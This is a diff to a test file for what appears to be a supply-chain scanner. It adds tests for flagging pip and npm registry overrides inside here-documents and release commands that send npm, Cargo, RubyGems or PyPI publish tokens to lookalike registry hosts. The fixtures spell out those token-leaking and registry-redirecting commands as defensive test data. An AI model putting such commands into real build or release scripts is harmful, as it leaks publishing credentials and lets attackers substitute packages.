@@ -4,7 +4,7 @@ import { lowerOwnOrganization } from '../../../src/ecosystems/github-actions/act
 import { extractWorkflow } from '../../../src/ecosystems/github-actions/extract.js';
 import { findGoRunsUnpinned } from '../../../src/ecosystems/shell/go-run.js';
 import { findCommandIndexes, findCommandRegistries, findHeredocConfigSources, findRemoteInstalls, findUnpinnedAdds, indexFromVariable, registryFromVariable, uvMixesIndexes } from '../../../src/ecosystems/shell/remote-installs.js';
-import { scriptDownloadFindings } from '../../../src/ecosystems/shell/script-downloads.js';
+import { scriptDownloadFindings, wantsHeredocContext } from '../../../src/ecosystems/shell/script-downloads.js';
 import { makeFile } from '../../support/snapshot-factory.js';
 import { analyze, change, pkg, snapshotOf } from '../../support/supply-chain-snapshot.js';
 
@@ -379,6 +379,65 @@ describe('remote-package-install in scripts, Makefiles and CI pipelines', () => 
     // A key added to a here-document the file already had (its start is context).
     const patch = ['@@ -1,4 +1,5 @@', ' cat > ~/.pip/pip.conf <<EOF', ' [global]', '+extra-index-url = https://pkgs.example.dev/simple', ' timeout = 60', ' EOF'].join('\n');
     expect(scriptDownloadFindings(makeFile('scripts/setup.sh', { patch })).map((f) => `${f.id} ${f.severity} ${f.line}`)).toEqual(['pip-extra-index high 3']);
+  });
+
+  it('reads a key added far below its here-document\'s start in the whole head file, when the analysis fetched it', () => {
+    const body = ['[global]', 'timeout = 60', 'retries = 5', 'no-cache-dir = true', 'disable-pip-version-check = true', 'progress-bar = off'];
+    const base = ['#!/bin/sh', 'mkdir -p ~/.config/pip', 'cat > ~/.config/pip/pip.conf <<EOF', ...body, 'EOF', 'pip install -r requirements.txt'];
+    const head = ['#!/bin/sh', 'mkdir -p ~/.config/pip', 'cat > ~/.config/pip/pip.conf <<EOF', ...body, 'extra-index-url = https://pkgs.build-cache.dev/simple', 'EOF', 'pip install -r requirements.txt'];
+    // The hunk's three lines of context do not reach the `<<EOF` line (line 3); the key is line 10.
+    const patch = ['@@ -7,4 +7,5 @@', ' no-cache-dir = true', ' disable-pip-version-check = true', ' progress-bar = off', '+extra-index-url = https://pkgs.build-cache.dev/simple', ' EOF', ' pip install -r requirements.txt'].join('\n');
+    const file = makeFile('scripts/setup.sh', { patch });
+    const ids = (content?: { base: string | null; head: string | null }) => scriptDownloadFindings(file, false, new Map(), content).map((f) => `${f.id} ${f.severity} ${f.line}`);
+    expect(wantsHeredocContext('scripts/setup.sh', patch)).toBe(true);
+    expect(ids({ base: base.join('\n'), head: head.join('\n') })).toEqual(['pip-extra-index high 10']);
+    // Without the file, the hunk alone shows no here-document.
+    expect(ids()).toEqual([]);
+    // npm's registry in an .npmrc here-document, the same way.
+    const npmHead = ['#!/bin/sh', 'cat > .npmrc <<EOF', 'fund=false', 'audit=false', 'save-exact=true', 'engine-strict=true', 'registry=https://registry.npmjs-cache.org/', 'EOF'];
+    const npmPatch = ['@@ -4,4 +4,5 @@', ' audit=false', ' save-exact=true', ' engine-strict=true', '+registry=https://registry.npmjs-cache.org/', ' EOF'].join('\n');
+    const npmBase = npmHead.filter((l) => !l.startsWith('registry='));
+    expect(scriptDownloadFindings(makeFile('scripts/ci.sh', { patch: npmPatch }), false, new Map(), { base: npmBase.join('\n'), head: npmHead.join('\n') }).map((f) => `${f.id} ${f.severity} ${f.line}`)).toEqual(['npm-registry-override high 7']);
+  });
+
+  it('leaves a key the base file\'s here-document already wrote, a key outside any here-document, and files whose patch adds no such key', () => {
+    const head = ['cat > pip.conf <<EOF', '[global]', 'timeout = 60', 'retries = 5', 'progress-bar = off', 'extra-index-url = https://pkgs.build-cache.dev/simple', 'EOF', 'echo done'];
+    // The key moved down (the base wrote it too).
+    const base = ['cat > pip.conf <<EOF', '[global]', 'extra-index-url = https://pkgs.build-cache.dev/simple', 'timeout = 60', 'retries = 5', 'progress-bar = off', 'EOF', 'echo done'];
+    const patch = ['@@ -3,4 +3,4 @@', '-extra-index-url = https://pkgs.build-cache.dev/simple', ' timeout = 60', ' retries = 5', ' progress-bar = off', '+extra-index-url = https://pkgs.build-cache.dev/simple', ' EOF'].join('\n');
+    expect(scriptDownloadFindings(makeFile('scripts/setup.sh', { patch }), false, new Map(), { base: base.join('\n'), head: head.join('\n') })).toEqual([]);
+    // A here-document that writes a document, not a config.
+    const notes = ['cat > NOTES.md <<EOF', 'Mirrors:', 'a', 'b', 'c', 'url = https://pkgs.build-cache.dev/simple', 'EOF'];
+    const notesPatch = ['@@ -3,3 +3,4 @@', ' a', ' b', ' c', '+url = https://pkgs.build-cache.dev/simple', ' EOF'].join('\n');
+    expect(scriptDownloadFindings(makeFile('scripts/notes.sh', { patch: notesPatch }), false, new Map(), { base: notes.filter((l) => !l.startsWith('url')).join('\n'), head: notes.join('\n') })).toEqual([]);
+    expect(wantsHeredocContext('scripts/setup.sh', '@@ -1,1 +1,2 @@\n echo hi\n+echo done')).toBe(false);
+    expect(wantsHeredocContext('src/app.py', '@@ -1,1 +1,2 @@\n x = 1\n+url = "https://example.com"')).toBe(false);
+  });
+
+  it('reports a registry token an added command hands to another registry (publish-token-redirect), high, in scripts, Makefiles and pipelines', () => {
+    expect(scriptFindings('scripts/release.sh', ['npm publish'], ['echo "//npm.registry-cdn.dev/:_authToken=${NPM_TOKEN}" > .npmrc', 'npm publish --registry https://npm.registry-cdn.dev/'], 'publish-token-redirect')).toEqual(['high scripts/release.sh:2']);
+    expect(scriptFindings('Makefile', [], ['release:', '\tcargo publish --index sparse+https://crates.rs-mirror.dev/index/ --token $(CARGO_REGISTRY_TOKEN)'], 'publish-token-redirect')).toEqual(['high Makefile:3']);
+    expect(scriptFindings('Jenkinsfile', [], ["sh 'gem push --host https://gems.rubycentral-cdn.org pkg/*.gem -k $RUBYGEMS_API_KEY'"], 'publish-token-redirect')).toEqual(['high Jenkinsfile:2']);
+    expect(scriptFindings('.gitlab-ci.yml', [], ['  - npm config set //registry.npmjs-cache.io/:_authToken "$NPM_TOKEN"'], 'publish-token-redirect')).toEqual(['high .gitlab-ci.yml:2']);
+    // One report for the host: the token's, not also npm-registry-override's for the registry= line.
+    const both = scriptDownloadFindings(makeFile('scripts/release.sh', { patch: patchOf([], ["printf 'registry=https://npm.registry-cdn.dev/\\n//npm.registry-cdn.dev/:_authToken=%s\\n' \"$NPM_TOKEN\" > .npmrc", 'npm publish']) }));
+    expect(both.map((f) => `${f.id} ${f.severity}`)).toEqual(['publish-token-redirect high']);
+    expect(scriptFindings('scripts/release.sh', [], ['twine upload --repository-url https://upload.pypi-mirror.dev/legacy/ -u __token__ -p "$PYPI_TOKEN" dist/*'], 'publish-token-redirect')).toEqual(['high scripts/release.sh:2']);
+  });
+
+  it('leaves the registries themselves, GitHub Packages, the machine itself, a private registry\'s own token, an install and what the base already did', () => {
+    for (const lines of [
+      ['echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc', 'npm publish'],
+      ['echo "//npm.pkg.github.com/:_authToken=${NPM_TOKEN}" >> .npmrc', 'npm publish --registry https://npm.pkg.github.com'],
+      ['echo "//localhost:4873/:_authToken=$NPM_TOKEN" >> .npmrc', 'npm publish --registry http://localhost:4873'],
+      ['echo "//nexus.acme.dev/repository/npm/:_authToken=${NEXUS_NPM_TOKEN}" > .npmrc', 'npm publish'],
+      ['npm install --registry https://registry.npmmirror.com', 'echo $NPM_TOKEN | wc -c'],
+      ['cargo publish --token "$CARGO_REGISTRY_TOKEN"'],
+      // A pipeline's YAML key naming a repository, beside a PyPI token used elsewhere: no upload there.
+      ['  repository: https://gitlab.example.dev/acme/docs', '  - echo "$PYPI_TOKEN" | wc -c'],
+    ]) expect(scriptFindings('scripts/release.sh', [], lines, 'publish-token-redirect'), lines.join(' ; ')).toEqual([]);
+    const before = ['echo "//npm.registry-cdn.dev/:_authToken=${NPM_TOKEN}" > .npmrc', 'npm publish --registry https://npm.registry-cdn.dev/'];
+    expect(scriptFindings('scripts/release.sh', before, [...before.slice(0, 1), 'npm publish --registry https://npm.registry-cdn.dev/ --tag next'], 'publish-token-redirect')).toEqual([]);
   });
 
   it('leaves a here-document the base already wrote, other files, PyPI, an auth-token line and values passed in alone', () => {
